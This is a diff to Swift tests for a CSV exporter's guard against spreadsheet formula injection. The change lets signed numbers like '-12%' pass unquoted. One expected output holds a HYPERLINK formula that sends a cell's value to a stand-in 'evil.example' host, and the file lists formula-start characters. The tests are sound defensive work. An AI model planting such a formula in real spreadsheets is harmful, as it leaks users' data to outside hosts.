@@ -108,11 +108,13 @@ import Testing
                     let decimal = rows[0] == ["x (\(amount.currency.code))"] ? Self.money(decimal: cell, currency: amount.currency.code) : nil
                     if decimal != amount { failures.append("\(text.debugDescription): an amount written as \(rows.debugDescription)") }
                 } else {
-                    // The guard's own oracle: OWASP's characters, a `'` before them, nothing exempt.
-                    let expected = ["=", "+", "-", "@", "\t", "\r"].contains(bare.first.map(String.init) ?? "") ? "'" + bare : bare
+                    // The guard's own oracle: OWASP's characters, a `'` before them, a signed number exempt.
+                    let signedNumber = bare.wholeMatch(of: /[+-][0-9]+([.,][0-9]+)*%?/) != nil
+                    let expected = ["=", "+", "-", "@", "\t", "\r"].contains(bare.first.map(String.init) ?? "") && !signedNumber ? "'" + bare : bare
                     if rows != [["x"], [expected]] { failures.append("\(text.debugDescription): text written as \(rows.debugDescription)") }
                 }
-                if let first = cell.unicodeScalars.first, CSVCell.formulaStarts.contains(first), amount == nil {
+                if let first = cell.unicodeScalars.first, CSVCell.formulaStarts.contains(first), amount == nil,
+                   cell.wholeMatch(of: /[+-][0-9]+([.,][0-9]+)*%?/) == nil {
                     failures.append("\(text.debugDescription): \(cell.debugDescription) starts a formula")
                 }
             }
@@ -122,14 +124,14 @@ import Testing
         // The hand-picked cells in en_GB, as a spreadsheet gets them.
         let csv = { (text: String) in Self.parse(TableCSV.tables(in: "| x |\n| --- |\n| \(text) |\n").first!.csv(locale: .enGB))?.last?.first }
         #expect(csv("-£0.01") == "-0.01" && csv("£1,234.56") == "1234.56" && csv("\u{202E}-£3.20") == "-3.20")
-        #expect(csv("€5") == "€5" && csv("12%") == "12%" && csv("-12%") == "'-12%" && csv("£5.00 (50%)") == "£5.00 (50%)")
+        #expect(csv("€5") == "€5" && csv("12%") == "12%" && csv("-12%") == "-12%" && csv("£5.00 (50%)") == "£5.00 (50%)")
         #expect(csv("=1+1") == "'=1+1" && csv("-") == "'-" && csv("£1234.56") == "£1234.56" && csv("+£12.50") == "12.50")
     }
 
     @Test func aColumnOfSeveralCurrenciesGetsACurrencyColumn() throws {
         let markdown = "| Account | Balance | Share |\n| --- | ---: | ---: |\n| A | -£1,234.56 | -12% |\n| B | US$7.00 | 3% |\n| C | – | – |\n"
         let csv = try #require(TableCSV.tables(in: markdown).first).csv(locale: .enGB)
-        #expect(csv == "Account,Balance,Balance currency,Share\r\nA,-1234.56,GBP,'-12%\r\nB,7.00,USD,3%\r\nC,–,,–\r\n")
+        #expect(csv == "Account,Balance,Balance currency,Share\r\nA,-1234.56,GBP,-12%\r\nB,7.00,USD,3%\r\nC,–,,–\r\n")
         let named = try #require(TableCSV.tables(in: "| Account | In GBP |\n| --- | --: |\n| A | £2.00 |\n").first).csv(locale: .enGB)
         #expect(named == "Account,In GBP\r\nA,2.00\r\n")
     }
@@ -150,10 +152,10 @@ import Testing
         #expect(table.rows[1][0] == payee)
         let csv = table.csv(locale: .enGB)
         // The formulas are guarded; the amount is a plain decimal (its currency in the header); a
-        // signed number that is no amount is text, guarded as any other.
-        #expect(csv == "Payee,Amount (GBP)\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",-1234.56\r\n'@SUM(A1),'+1\r\n")
+        // signed number that is no amount holds no formula and stays a number.
+        #expect(csv == "Payee,Amount (GBP)\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",-1234.56\r\n'@SUM(A1),+1\r\n")
         let parsed = try #require(Self.parse(csv))
-        #expect(parsed.joined().allSatisfy { field in !["=", "+", "-", "@"].contains(field.first.map(String.init) ?? "") || field == "-1234.56" })
+        #expect(parsed.joined().allSatisfy { field in !["=", "+", "-", "@"].contains(field.first.map(String.init) ?? "") || field == "-1234.56" || field == "+1" })
     }
 
     @Test func nonASCIIAndBidiControls() throws {
